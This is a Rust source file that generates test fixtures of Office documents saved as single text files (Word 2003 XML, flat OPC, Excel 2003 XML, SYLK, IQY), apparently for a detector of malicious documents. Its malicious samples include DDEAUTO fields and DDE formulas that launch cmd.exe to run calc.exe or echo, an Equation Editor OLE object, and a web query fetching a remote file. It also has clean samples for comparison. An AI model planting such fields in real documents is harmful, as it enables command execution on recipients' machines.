//! Office documents saved as one text file: Word 2003 XML, flat OPC (Word
//! 2007+ "Word XML Document"), Excel 2003 XML, SYLK and IQY web queries.
//!
//! Each is written the way Office writes it (the `mso-application`
//! processing instruction, the namespaces, CRLF line ends in SYLK and IQY),
//! trimmed to what a reader needs.

use crate::ooxml::{escape_attr, escape_text};
use crate::word::{self, fld_char_field, fld_simple, p, run, word_body};

/// The root element of a Word 2003 XML document, with Word's namespaces.
const WORD2003_ROOT: &str = "<w:wordDocument \
xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" \
xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:w10=\"urn:schemas-microsoft-com:office:word\" \
xmlns:sl=\"http://schemas.microsoft.com/schemaLibrary/2003/core\" \
xmlns:aml=\"http://schemas.microsoft.com/aml/2001/core\" \
xmlns:wx=\"http://schemas.microsoft.com/office/word/2003/auxHint\" \
xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
xmlns:dt=\"uuid:C2F41010-65B3-11d1-A29F-00AA00C14882\" w:macrosPresent=\"no\" \
w:embeddedObjPresent=\"no\" w:ocxPresent=\"no\" xml:space=\"preserve\">";

/// A Word 2003 XML document holding `body` (paragraphs).
fn word2003(body: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
         <?mso-application progid=\"Word.Document\"?>\r\n{WORD2003_ROOT}\
         <o:DocumentProperties><o:Author>user</o:Author><o:Version>11.0000</o:Version></o:DocumentProperties>\
         <w:body><wx:sect>{body}<w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/></w:sectPr></wx:sect>\
         </w:body></w:wordDocument>"
    )
    .into_bytes()
}

/// Word 2003 XML with a DDEAUTO field split over instruction runs.
pub fn word2003_dde() -> Vec<u8> {
    word2003(
        &(p(&run("Please enable updating of links."))
            + &p(&fld_char_field(
                &[
                    r"DDEAUTO c:\\windows\\system32\\cmd.exe ",
                    r#""/k calc.exe""#,
                ],
                "!Unexpected End of Formula",
            ))),
    )
}

/// An OLE object paragraph of Word 2003 XML (VML shape + `o:OLEObject`).
fn ole_object(prog_id: &str, kind: &str) -> String {
    format!(
        "<w:p><w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"720\"><v:shape id=\"_x0000_i1025\" \
         type=\"#_x0000_t75\" style=\"width:72pt;height:36pt\" o:ole=\"\"><v:imagedata \
         src=\"wordml://02000001.wmz\" o:title=\"\"/></v:shape><o:OLEObject Type=\"{kind}\" \
         ProgID=\"{prog_id}\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" \
         ObjectID=\"_1570000001\"/></w:object></w:r></w:p>"
    )
}

/// Word 2003 XML with an embedded Equation Editor 3.0 object.
pub fn word2003_equation() -> Vec<u8> {
    word2003(&(p(&run("Formula:")) + &ole_object("Equation.3", "Embed")))
}

/// Negative: Word 2003 XML with harmless fields and a linked worksheet.
pub fn word2003_clean() -> Vec<u8> {
    word2003(
        &(p(&(run("Page ") + &fld_char_field(&["PAGE"], "1")))
            + &p(&fld_simple(
                r#"HYPERLINK "http://example.com/dde-help""#,
                "help",
            ))
            + &ole_object("Excel.Sheet.8", "Embed")),
    )
}

/// Base64 (RFC 4648) in lines of 76 characters, as Word writes binary parts.
pub fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (i, chunk) in bytes.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.push_str("\r\n");
        }
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * k)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// One `pkg:part`: XML inline, or bytes in base64.
enum FlatPart<'a> {
    Xml(&'a str, &'a str, String),
    Binary(&'a str, &'a str, Vec<u8>),
}

/// A flat OPC package (`pkg:package`) of the given parts.
fn flat_opc(parts: &[FlatPart<'_>]) -> Vec<u8> {
    let mut xml = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
         <?mso-application progid=\"Word.Document\"?>\r\n\
         <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">",
    );
    for part in parts {
        match part {
            FlatPart::Xml(name, content_type, content) => {
                // The part's own XML declaration is dropped, as Word does.
                let content = content
                    .split_once("?>")
                    .map_or(content.as_str(), |(_, r)| r);
                xml.push_str(&format!(
                    "<pkg:part pkg:name=\"{name}\" pkg:contentType=\"{content_type}\">\
                     <pkg:xmlData>{}</pkg:xmlData></pkg:part>",
                    content.trim_start()
                ));
            }
            FlatPart::Binary(name, content_type, bytes) => xml.push_str(&format!(
                "<pkg:part pkg:name=\"{name}\" pkg:contentType=\"{content_type}\" \
                 pkg:compression=\"store\"><pkg:binaryData>{}</pkg:binaryData></pkg:part>",
                base64(bytes)
            )),
        }
    }
    xml.push_str("</pkg:package>");
    xml.into_bytes()
}

const CT_RELS: &str = "application/vnd.openxmlformats-package.relationships+xml";
const CT_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const CT_DOCX_PACKAGE: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

/// The package relationships of a flat OPC Word document.
fn flat_package_rels() -> String {
    crate::ooxml::relationships(&[crate::ooxml::Rel::new(
        "rId1",
        crate::ooxml::REL_OFFICE_DOCUMENT,
        "word/document.xml",
    )])
}

/// Flat OPC with a DDEAUTO field in `word/document.xml` and an embedded Word
/// document (base64 in `pkg:binaryData`) holding another.
pub fn flat_opc_dde() -> Vec<u8> {
    let body = p(&run("Shipment details below."))
        + &p(&fld_char_field(
            &[r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c echo flat""#],
            "Update",
        ));
    let embedded = word::docx(&[(
        "word/document.xml",
        word_body(&p(&fld_char_field(
            &[r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c echo embedded""#],
            "Update",
        ))),
    )]);
    let document_rels = crate::ooxml::relationships(&[crate::ooxml::Rel::new(
        "rId1",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package",
        "embeddings/Microsoft_Word_Document.docx",
    )]);
    flat_opc(&[
        FlatPart::Xml("/_rels/.rels", CT_RELS, flat_package_rels()),
        FlatPart::Xml("/word/_rels/document.xml.rels", CT_RELS, document_rels),
        FlatPart::Xml("/word/document.xml", CT_MAIN, word_body(&body)),
        FlatPart::Binary(
            "/word/embeddings/Microsoft_Word_Document.docx",
            CT_DOCX_PACKAGE,
            embedded,
        ),
    ])
}

/// Negative: flat OPC with harmless fields and a picture.
pub fn flat_opc_clean() -> Vec<u8> {
    let body = p(&(run("Page ") + &fld_char_field(&["PAGE"], "1")))
        + &p(&fld_simple(r#"TOC \o "1-3" \h"#, "Contents"));
    let png =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec();
    flat_opc(&[
        FlatPart::Xml("/_rels/.rels", CT_RELS, flat_package_rels()),
        FlatPart::Xml("/word/document.xml", CT_MAIN, word_body(&body)),
        FlatPart::Binary("/word/media/image1.png", "image/png", png),
    ])
}

/// An Excel 2003 XML workbook holding `sheets` (name, rows XML) and the
/// given `ExcelWorkbook` content (link table).
fn excel2003(links: &str, sheets: &[(&str, String)]) -> Vec<u8> {
    let mut xml = String::from(
        "<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Excel.Sheet\"?>\r\n\
         <Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"\r\n \
         xmlns:o=\"urn:schemas-microsoft-com:office:office\"\r\n \
         xmlns:x=\"urn:schemas-microsoft-com:office:excel\"\r\n \
         xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"\r\n \
         xmlns:html=\"http://www.w3.org/TR/REC-html40\">\r\n",
    );
    xml.push_str(&format!(
        " <ExcelWorkbook xmlns=\"urn:schemas-microsoft-com:office:excel\">{links}\
         <ProtectStructure>False</ProtectStructure></ExcelWorkbook>\r\n"
    ));
    for (name, rows) in sheets {
        xml.push_str(&format!(
            " <Worksheet ss:Name=\"{}\">\r\n  <Table>{rows}</Table>\r\n </Worksheet>\r\n",
            escape_attr(name)
        ));
    }
    xml.push_str("</Workbook>\r\n");
    xml.into_bytes()
}

/// A `Cell` with a string value.
fn string_cell(text: &str) -> String {
    format!(
        "<Cell><Data ss:Type=\"String\">{}</Data></Cell>",
        escape_text(text)
    )
}

/// Excel 2003 XML whose cell B3 (row and column given by `ss:Index`) holds
/// a DDE formula.
pub fn excel2003_dde() -> Vec<u8> {
    let rows = format!(
        "<Row>{}{}</Row><Row ss:Index=\"3\"><Cell ss:Index=\"2\" ss:Formula=\"{}\">\
         <Data ss:Type=\"Error\">#REF!</Data></Cell></Row>",
        string_cell("Quarter"),
        string_cell("Total"),
        escape_attr("=cmd|'/c calc.exe'!A1")
    );
    excel2003("", &[("Sheet1", rows), ("Sheet2", String::new())])
}

/// Negative: Excel 2003 XML with ordinary formulas and a link to another
/// workbook.
pub fn excel2003_clean() -> Vec<u8> {
    let rows = format!(
        "<Row><Cell><Data ss:Type=\"Number\">1</Data></Cell><Cell><Data ss:Type=\"Number\">2</Data></Cell>\
         <Cell ss:Formula=\"=SUM(RC[-2]:RC[-1])\"><Data ss:Type=\"Number\">3</Data></Cell>\
         <Cell ss:Formula=\"{}\"><Data ss:Type=\"Number\">7</Data></Cell></Row>",
        escape_attr("='C:\\Reports\\[Budget.xls]Sheet1'!R1C1")
    );
    excel2003(
        "<SupBook><Path>C:\\Reports\\Budget.xls</Path><SheetName>Sheet1</SheetName></SupBook>",
        &[("Sheet1", rows)],
    )
}

/// SYLK whose cell B2 runs `CMD /C calc.exe` (formula without `=`).
pub fn sylk_dde() -> Vec<u8> {
    b"ID;PWXL;N;E\r\nP;PGeneral\r\nF;P0;DG0G8;M255\r\nB;Y2;X2;D0 0 1 1\r\n\
C;Y1;X1;K\"Invoice\"\r\nC;X2;K\"Amount\"\r\nC;Y2;X1;K\"Total\"\r\nC;X2;K0;ECMD|'/C calc.exe'!A0\r\nE\r\n"
        .to_vec()
}

/// Negative: SYLK with ordinary formulas.
pub fn sylk_clean() -> Vec<u8> {
    b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;X2;K2\r\nC;X3;K3;ER1C1+R1C2\r\nC;Y2;X1;K\"a;;b\"\r\nE\r\n"
        .to_vec()
}

/// An IQY web query as Excel saves it.
pub fn webquery() -> Vec<u8> {
    b"WEB\r\n1\r\nhttp://198.51.100.23/dde/2.dat\r\n\r\nSelection=EntirePage\r\nFormatting=None\r\n\
PreFormattedTextToColumns=True\r\nConsecutiveDelimitersAsOne=True\r\nSingleBlockTextImport=False\r\n\
DisableDateRecognition=False\r\nDisableRedirections=False\r\n"
        .to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc_4648() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
        let long = base64(&[0u8; 60]);
        assert_eq!(long.split("\r\n").next().map(str::len), Some(76));
    }
}
